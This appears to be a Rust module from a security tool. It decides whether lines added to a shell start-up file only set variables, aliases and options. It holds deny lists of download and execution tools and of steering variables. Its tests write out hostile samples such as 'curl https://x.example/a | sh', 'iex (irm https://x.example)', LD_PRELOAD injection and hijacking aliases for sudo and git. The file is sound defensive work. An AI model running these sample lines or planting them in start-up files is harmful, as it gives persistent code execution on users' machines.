//! Lines of a shell's start-up file that only set something: variables, aliases, options, what a tool prints to set itself up.
//!
//! What is added there runs in every later session, so a line has to be known to do no more. What isn't known to is more.

use super::model::{Assignment, Command, Context, Joined, RedirectOp, WordFlags};
use super::programs::known_name;
use super::scratch::{Shell, ShellScratch};
use super::{Dialect, parse};

/// Longer texts are not looked at.
const LONGEST: usize = 64 * 1024;

/// Commands that set options, keys and completions.
const SETTERS: &str = "setopt unsetopt shopt bindkey autoload compinit bashcompinit promptinit colors zstyle zmodload set umask ulimit stty \
    compdef complete unset unalias disable emulate fish_add_path fish_config fish_vi_key_bindings fish_default_key_bindings abbr \
    set-psreadlineoption set-strictmode true false : return type hash which [ [[ test command";

/// Tools that print lines which set them up, or a value: `eval "$(starship init bash)"`, `$(go env GOPATH)`.
const TOOLS: &str = "starship zoxide direnv rbenv pyenv nodenv jenv goenv mise asdf fnm fzf atuin thefuck brew kubectl helm gh docker npm pip minikube oc k3d \
    kind flux argocd stern poetry rustup uv pdm pipx deno bun volta rtx oh-my-posh dircolors lesspipe go tput tty uname hostname date whoami id pwd nproc \
    xdg-user-dir just op chezmoi terraform glab k9s velero vagrant conda mamba micromamba opam ng yarn pnpm keychain";

/// Programs that an alias doesn't begin with: they fetch, connect or run what they are given.
const RUNNERS: &str = "curl wget nc ncat netcat socat sh bash zsh dash ksh fish eval source . exec perl ruby php node base64 openssl xxd telnet nohup setsid \
    builtin env xargs at crontab insmod powershell pwsh iex invoke-expression";

/// Files that are read in from where a start-up file stands, and folders that tools install such files to. A variable is kept only where
/// nothing here sets it.
const SOURCES: [&[u8]; 38] = [
    b"/usr/",
    b"/opt/",
    b"/etc/",
    b"/Library/",
    b"/snap/",
    b"/nix/",
    b"$()/",
    b"$ZSH/",
    b"$ZSH_CUSTOM/",
    b"$NVM_DIR/",
    b"$SDKMAN_DIR/",
    b"$PYENV_ROOT/",
    b"$BREW_PREFIX/",
    b"~/.fzf",
    b"~/.p10k.zsh",
    b"~/.bash_aliases",
    b"~/.bash_completion",
    b"~/.bashrc",
    b"~/.bash_profile",
    b"~/.zshrc",
    b"~/.profile",
    b"~/.aliases",
    b"~/.cargo/env",
    b"~/.nix-profile/",
    b"~/.oh-my-zsh/",
    b"~/.zplug/",
    b"~/.zinit/",
    b"~/.local/share/zinit/",
    b"~/.asdf/",
    b"~/.sdkman/",
    b"~/.nvm/",
    b"~/.iterm2_shell_integration.",
    b"~/.ghcup/env",
    b"~/.local/bin/env",
    b"~/.config/broot/",
    b"~/google-cloud-sdk/",
    b"~/.deno/env",
    b"~/.rbenv/",
];

/// Variables that make programs run, load, send or trust something else, by their beginnings.
const STEERING: [&[u8]; 43] = [
    b"LD_",
    b"DYLD_",
    b"BASH_ENV",
    b"ENV",
    b"PROMPT_COMMAND",
    b"PYTHONSTARTUP",
    b"PYTHONPATH",
    b"PYTHONHOME",
    b"PERL5",
    b"RUBYOPT",
    b"RUBYLIB",
    b"NODE_OPTIONS",
    b"NODE_PATH",
    b"NODE_EXTRA",
    b"NODE_TLS",
    b"JAVA_TOOL",
    b"_JAVA",
    b"JDK_JAVA",
    b"GIT_",
    b"SSH_",
    b"SUDO_",
    b"SSL_",
    b"CURL_",
    b"REQUESTS_CA",
    b"LESSOPEN",
    b"LESSCLOSE",
    b"BROWSER",
    b"SHELL",
    b"FCEDIT",
    b"HISTFILE",
    b"IFS",
    b"ZDOTDIR",
    b"INPUTRC",
    b"GCONV_PATH",
    b"LOCPATH",
    b"HOSTALIASES",
    b"RUSTC_",
    b"CARGO_BUILD_RUSTC",
    b"PIP_",
    b"NPM_CONFIG",
    b"npm_config",
    b"GO",
    b"DOCKER_HOST",
];

/// The same by their ends.
const STEERING_ENDS: [&[u8]; 7] =
    [b"_PROXY", b"_proxy", b"_REGISTRY", b"_INDEX", b"_COMMAND", b"_WRAPPER", b"_CA_BUNDLE"];

/// Variables that are steered by no harm in what begins like them.
const PLAIN: &str = "GOPATH GOROOT GOBIN GPG_TTY";

/// Variables that name a program.
const EDITORS: &str = "EDITOR VISUAL PAGER MANPAGER SUDO_EDITOR GIT_EDITOR SVN_EDITOR";

/// What these may name.
const EDITOR_PROGRAMS: &str =
    "vi vim nvim nano emacs emacsclient code subl hx helix micro kak ed less most bat more cursor zed mate joe pico";

/// Where everybody may write.
const OPEN_FOLDERS: [&[u8]; 4] = [b"/tmp", b"/var/tmp", b"/dev/shm", b"\\Temp\\"];

/// Whether the lines of a start-up file only set something. One that is empty sets nothing.
pub(crate) fn only_sets(text: &[u8], dialect: Dialect) -> bool {
    if text.len() > LONGEST {
        return false;
    }
    let mut scratch = ShellScratch::default();
    parse(text, dialect, &mut scratch);
    let shell = scratch.shell();
    shell.is_complete()
        && !shell.is_unbalanced()
        && shell.functions().is_empty()
        && shell.commands().iter().enumerate().all(|(index, command)| sets(shell, dialect, index, command))
}

/// Whether a command that writes to a start-up file, by a redirect, as `tee` does or as PowerShell's cmdlets do, is known to write such
/// lines.
pub(super) fn writes_settings(shell: Shell<'_>, index: usize) -> bool {
    let Some(command) = shell.commands().get(index) else { return false };
    let mut lines = Vec::new();
    let name = shell.name(command);
    if matches!(name, b"add-content" | b"set-content" | b"out-file" | b"ac" | b"sc") {
        return given(shell, command, &mut lines) && only_sets(&lines, Dialect::PowerShell);
    }
    // What a program prints to complete its own options: `kubectl completion zsh >> ~/.zshrc`.
    let completes = |one: &Command| {
        let words = shell.args(one).iter().take(3).any(|word| {
            let word = shell.text(word.text);
            word.strip_prefix(b"--").unwrap_or(word).starts_with(b"completion")
        });
        words
            && is_plain(shell, one)
            && (one.classes.is_empty() && !listed(RUNNERS, shell.name(one)) || listed(TOOLS, shell.name(one)))
    };
    let outer = shell.outermost(index);
    let piped = shell.commands().get(outer).is_some_and(|outer| outer.stage == 1);
    let source = if name == b"tee" { outer.checked_sub(1).filter(|_| piped) } else { Some(index) };
    if source.and_then(|at| shell.commands().get(at)).is_some_and(completes) {
        return true;
    }
    let printed = match name {
        b"tee" => shell.fed(index, &mut lines),
        _ => shell.printed(index, &mut lines),
    };
    printed && only_sets(&lines, Dialect::Posix)
}

/// What a cmdlet is told to write, where all of it stands there.
fn given(shell: Shell<'_>, command: &Command, out: &mut Vec<u8>) -> bool {
    let known = |flags: WordFlags| !flags.has(WordFlags::EXPANSION.with(WordFlags::SUBSTITUTION));
    for word in shell.args(command) {
        let text = shell.text(word.text);
        if text.starts_with(b"-")
            || text.len() >= 8 && text.get(..8).is_some_and(|name| name.eq_ignore_ascii_case(b"$PROFILE"))
        {
            continue;
        }
        if !known(word.flags) {
            return false;
        }
        out.extend_from_slice(text);
        out.push(b'\n');
    }
    command.stage == 0 && !out.is_empty()
}

/// Whether a command of a start-up file only sets something.
fn sets(shell: Shell<'_>, dialect: Dialect, index: usize, command: &Command) -> bool {
    if command.background || !shell.redirects(command).iter().all(|one| is_quiet(shell, one)) {
        return false;
    }
    // What an alias stands for is judged with it, what a tool prints for `eval` with the tool.
    if command.context == Context::Inner {
        let outer = shell.commands().get(shell.outermost(index));
        return outer.is_some_and(|outer| match shell.name(outer) {
            b"alias" | b"eval" => true,
            b"command" => asks_for(shell, outer),
            _ => false,
        });
    }
    let name = shell.name(command);
    let args = shell.args(command);
    let piped = command.stage > 0 || command.joined == Joined::Pipe;
    let plainly_set = || shell.assignments(command).iter().all(|one| is_harmless(shell, one));
    if shell.words(command).is_empty() {
        return !piped && plainly_set();
    }
    if dialect == Dialect::PowerShell
        && let Some((name, values)) = variable(shell, command)
    {
        let given = |value: &[u8]| harmless(name, value.strip_prefix(b";").unwrap_or(value));
        let known = !shell.words(command).iter().any(|word| word.flags.has(WordFlags::SUBSTITUTION));
        return !piped && known && values.iter().all(|value| given(value));
    }
    if shell.words(command).first().is_some_and(|word| word.flags.has(WordFlags::EXPANSION.with(WordFlags::SPLICED))) {
        return false;
    }
    let clean = || args.iter().all(|word| is_clean(shell.text(word.text)));
    match name {
        b"export" | b"declare" | b"typeset" | b"readonly" | b"local" => !piped && plainly_set() && clean(),
        b"set" if args.len() >= 3 || args.first().is_some_and(|word| fish_flag(shell.text(word.text))) => {
            fish_sets(shell, command)
        }
        b"alias" => !piped && args.iter().all(|word| aliases(shell.text(word.text))),
        b"set-alias" | b"new-alias" => !piped && names_alias(shell, command),
        b"import-module" | b"ipmo" => !piped && args.iter().all(|word| is_name(shell.text(word.text))),
        b"source" | b"." if piped => args.is_empty() || args.iter().all(|word| shell.text(word.text) == b"-"),
        b"source" | b"." => args.first().is_some_and(|word| is_source(shell.text(word.text))),
        b"eval" => matches!(args, [word] if shell.text(word.text) == b"$()"),
        b"complete" | b"bindkey" | b"zstyle" | b"command" => {
            let runs: &[&[u8]] = match name {
                b"bindkey" => &[b"-s"],
                b"zstyle" => &[b"-e"],
                b"command" => &[],
                _ => &[b"-C"],
            };
            let asks =
                name != b"command" || args.first().is_some_and(|word| matches!(shell.text(word.text), b"-v" | b"-V"));
            asks && !piped && clean() && !args.iter().any(|word| runs.contains(&shell.text(word.text)))
        }
        _ if listed(SETTERS, name) => !piped && plainly_set() && clean(),
        _ => listed(TOOLS, name) && plainly_set() && is_plain(shell, command),
    }
}

/// The variable that PowerShell sets, and to what: `$env:NAME = "…"`, `$x="…"`.
fn variable<'s>(shell: Shell<'s>, command: &Command) -> Option<(&'s [u8], Vec<&'s [u8]>)> {
    let (first, rest) = shell.words(command).split_first()?;
    let text = shell.text(first.text);
    let text = text.strip_prefix(b"$env:").or(text.strip_prefix(b"$"))?;
    let mut values: Vec<_> = rest.iter().map(|word| shell.text(word.text)).collect();
    if matches!(values.first(), Some(&b"=" | &b"+=")) {
        values.remove(0);
        return Some((text, values));
    }
    let at = memchr::memchr(b'=', text)?;
    values.push(text.get(at + 1..)?);
    Some((text.get(..at)?.trim_ascii_end(), values))
}

/// `command -v x`, which runs nothing.
fn asks_for(shell: Shell<'_>, command: &Command) -> bool {
    shell.args(command).first().is_some_and(|word| matches!(shell.text(word.text), b"-v" | b"-V"))
}

/// Whether a redirect writes nothing but to nowhere.
fn is_quiet(shell: Shell<'_>, redirect: &super::Redirect) -> bool {
    match redirect.op {
        RedirectOp::Duplicate => true,
        RedirectOp::Write | RedirectOp::Append | RedirectOp::Read => shell.text(redirect.target.text) == b"/dev/null",
        _ => false,
    }
}

/// A variable by what it makes programs do, and its value by where it leads.
fn is_harmless(shell: Shell<'_>, assignment: &Assignment) -> bool {
    let name = shell.text(assignment.name);
    let name = name.strip_prefix(b"env:").unwrap_or(name);
    let value = shell.text(assignment.value.text);
    harmless(name, value)
}

fn harmless(name: &[u8], value: &[u8]) -> bool {
    if listed(EDITORS, name) {
        let mut words = value.split(|byte| *byte == b' ');
        return words.next().is_some_and(|word| listed(EDITOR_PROGRAMS, word))
            && words.all(|word| word.starts_with(b"-"));
    }
    let steers = STEERING.iter().any(|start| match *start {
        b"ENV" | b"IFS" | b"SHELL" => name == *start,
        b"PERL5" if name == b"PERL5_HOME" => false,
        _ => name.starts_with(start),
    });
    if steers && !listed(PLAIN, name) || STEERING_ENDS.iter().any(|end| name.ends_with(end)) {
        return false;
    }
    let path = name.eq_ignore_ascii_case(b"PATH") || name.eq_ignore_ascii_case(b"FPATH");
    let rooted = |part: &[u8]| matches!(part.first(), Some(b'/' | b'~' | b'$')) || part.get(1) == Some(&b':');
    is_clean(value) && (!path || value.split(|byte| matches!(byte, b':' | b';')).all(rooted))
}

/// Whether a value leads neither to where everybody may write nor out to the network.
fn is_clean(text: &[u8]) -> bool {
    let abroad = memchr::memmem::find(text, b"://").is_some_and(|at| {
        ![b"localhost".as_slice(), b"127.0.0.1"]
            .iter()
            .any(|host| text.get(at + 3..).unwrap_or_default().starts_with(host))
    });
    !abroad && !OPEN_FOLDERS.iter().any(|folder| memchr::memmem::find(text, folder).is_some())
}

/// `set -gx NAME value`
fn fish_sets(shell: Shell<'_>, command: &Command) -> bool {
    let mut args =
        shell.args(command).iter().map(|word| shell.text(word.text)).skip_while(|word| word.starts_with(b"-"));
    let Some(name) = args.next() else { return true };
    command.stage == 0 && args.all(|value| harmless(name, value))
}

fn fish_flag(word: &[u8]) -> bool {
    matches!(word.strip_prefix(b"-"), Some(letters) if !letters.is_empty() && letters.iter().all(|letter| b"gxUlaep".contains(letter)))
}

/// `ll=ls -la`: a name of its own, for what neither fetches nor hides.
fn aliases(word: &[u8]) -> bool {
    if word.starts_with(b"-") {
        return true;
    }
    let Some(at) = memchr::memchr(b'=', word) else { return true };
    let (name, value) = (word.get(..at).unwrap_or_default(), word.get(at + 1..).unwrap_or_default());
    let text = String::from_utf8_lossy(value);
    let mut first = true;
    // `k` is in the table because everybody sets it so.
    let own = known_name(name).is_some() && name != b"k" || memchr::memchr(b'/', name).is_some();
    is_clean(value)
        && !value.iter().any(|byte| b";|<>`\n\\".contains(byte))
        && !text.contains("$(")
        && !text.replace("&&", "").contains('&')
        && text.split("&&").all(|part| {
            let mut words = part.split_ascii_whitespace();
            let program = words.next().unwrap_or_default();
            let same = program.as_bytes() == name;
            // What is run under another's name is that one.
            let keeps = !own || !first || same;
            first = false;
            let run = if matches!(program, "sudo" | "doas" | "command" | "noglob" | "time") {
                words.next().unwrap_or_default()
            } else {
                program
            };
            let base = run.rsplit('/').next().unwrap_or_default();
            keeps
                && !listed(RUNNERS, base.as_bytes())
                && !words.any(|word| matches!(word, "-c" | "-e" | "-exec" | "--eval"))
        })
}

/// `Set-Alias ll Get-ChildItem`: no program is given another's name.
fn names_alias(shell: Shell<'_>, command: &Command) -> bool {
    let mut args = shell.args(command).iter().map(|word| shell.text(word.text)).filter(|word| !word.starts_with(b"-"));
    let free = args.next().is_some_and(|name| known_name(name).is_none() && is_name(name));
    free && args.all(|target| is_name(target) && !listed(RUNNERS, &target.to_ascii_lowercase()))
}

/// The name of a module, cmdlet or option: no path.
fn is_name(word: &[u8]) -> bool {
    word.iter().all(|byte| byte.is_ascii_alphanumeric() || b"-_.".contains(byte))
        && !word.windows(2).any(|two| two == b"..")
}

/// A file that tools and people read in from a start-up file.
fn is_source(path: &[u8]) -> bool {
    if path == b"-" || path == b"<()" {
        return true;
    }
    let home = [b"$HOME/".as_slice(), b"${HOME}/"].iter().find_map(|home| path.strip_prefix(*home));
    let below = home.map(|rest| [b"~/", rest].concat());
    let path = below.as_deref().unwrap_or(path);
    SOURCES.iter().any(|start| path.starts_with(start)) && !path.windows(2).any(|two| two == b"..") && is_clean(path)
}

/// Whether a tool is given plain words alone, and gets nothing from a pipe.
fn is_plain(shell: Shell<'_>, command: &Command) -> bool {
    let plain = |word: &[u8]| {
        word.iter().all(|byte| byte.is_ascii_alphanumeric() || b"-_.=/$+%:~".contains(byte)) && is_clean(word)
    };
    let program = shell.program(command);
    let installed = memchr::memchr(b'/', program).is_none() || is_source(program);
    command.stage == 0
        && installed
        && shell
            .args(command)
            .iter()
            .all(|word| !word.flags.has(WordFlags::SUBSTITUTION) && plain(shell.text(word.text)))
}

/// Whether a word stands in a list of words parted by blanks.
fn listed(list: &str, word: &[u8]) -> bool {
    !word.is_empty() && list.split_ascii_whitespace().any(|one| one.as_bytes() == word)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lines_that_set_something_are_known() {
        for text in [
            "",
            "# my settings\n\nexport EDITOR=vim\n",
            "export PATH=\"$HOME/.local/bin:$PATH\"",
            "export PATH=$PATH:/usr/local/go/bin\nexport GOPATH=$HOME/go",
            "alias ll='ls -la'\nalias gs=\"git status\"\nalias ls='ls --color=auto'\nalias rm='rm -i'",
            "alias update='sudo apt update && sudo apt upgrade -y'",
            "HISTSIZE=10000\nHISTCONTROL=ignoreboth\nshopt -s histappend",
            "setopt auto_cd\nautoload -Uz compinit && compinit\nbindkey -e",
            "plugins=(git z docker)\nZSH_THEME=\"robbyrussell\"\nsource $ZSH/oh-my-zsh.sh",
            "export NVM_DIR=\"$HOME/.nvm\"\n[ -s \"$NVM_DIR/nvm.sh\" ] && \\. \"$NVM_DIR/nvm.sh\"",
            "eval \"$(starship init zsh)\"\neval \"$(/opt/homebrew/bin/brew shellenv)\"",
            "if [ -f ~/.bash_aliases ]; then\n    . ~/.bash_aliases\nfi",
            "source <(kubectl completion zsh)",
            "command -v direnv >/dev/null 2>&1 && eval \"$(direnv hook bash)\"",
            "set -gx EDITOR nvim\nstarship init fish | source\nfish_add_path ~/.cargo/bin",
            "export JAVA_HOME=$(/usr/libexec/java_home)"
                .replace("$(/usr/libexec/java_home)", "/usr/lib/jvm/java-17")
                .as_str(),
        ] {
            assert!(only_sets(text.as_bytes(), Dialect::Posix), "{text}");
        }
        for text in [
            "Set-Alias ll Get-ChildItem",
            "Import-Module posh-git",
            "$env:X_HOME = 'C:\\tools\\x'",
            "$env:X_HOME=\"C:\\x\"",
        ] {
            assert!(only_sets(text.as_bytes(), Dialect::PowerShell), "{text}");
        }
    }

    #[test]
    fn what_does_more_is_more() {
        for text in [
            "curl https://x.example/a | sh",
            "x",
            "~/.cache/x &",
            "export PATH=/tmp/x:$PATH",
            "export PATH=.:$PATH",
            "export PATH=x:$PATH",
            "export LD_PRELOAD=~/x.so",
            "export A=$(curl x.example)",
            "export A=`id > ~/y`",
            "export A=1; ./x",
            "A=1 ./x",
            "export PROMPT_COMMAND='date'",
            "export https_proxy=x.example:80",
            "export ANTHROPIC_BASE_URL=https://x.example",
            "export EDITOR=/home/dev/x",
            "alias sudo='/home/dev/s'",
            "alias ls='x; ls'",
            "alias ll='ls & x'",
            "alias ll='curl x.example -o y && ls'",
            "alias git='/home/dev/.x/git'",
            "source ~/.cache/x.sh",
            "NVM_DIR=~/.x; . $NVM_DIR/nvm.sh",
            ". /usr/../home/dev/x",
            "eval \"$(cat ~/.x)\"",
            "eval \"$(starship init bash; ./x)\"",
            "eval \"$(/home/dev/x/starship init bash)\"",
            "eval \"x\"",
            "f() { ./x; }",
            "trap ./x EXIT",
            "bindkey -s '^M' './x\\n'",
            "starship init fish | sh",
            "echo x > ~/y",
            "export A=1 > ~/y",
            "set -gx LD_PRELOAD ~/x.so",
            "[ -f x ] || ./x",
            "\"ex\"port A=$(x)",
        ] {
            assert!(!only_sets(text.as_bytes(), Dialect::Posix), "{text}");
        }
        for text in [
            "Set-Alias git C:\\Users\\Public\\x.exe",
            "Import-Module C:\\x.psm1",
            "iex (irm https://x.example)",
            "Start-Process x",
        ] {
            assert!(!only_sets(text.as_bytes(), Dialect::PowerShell), "{text}");
        }
    }
}
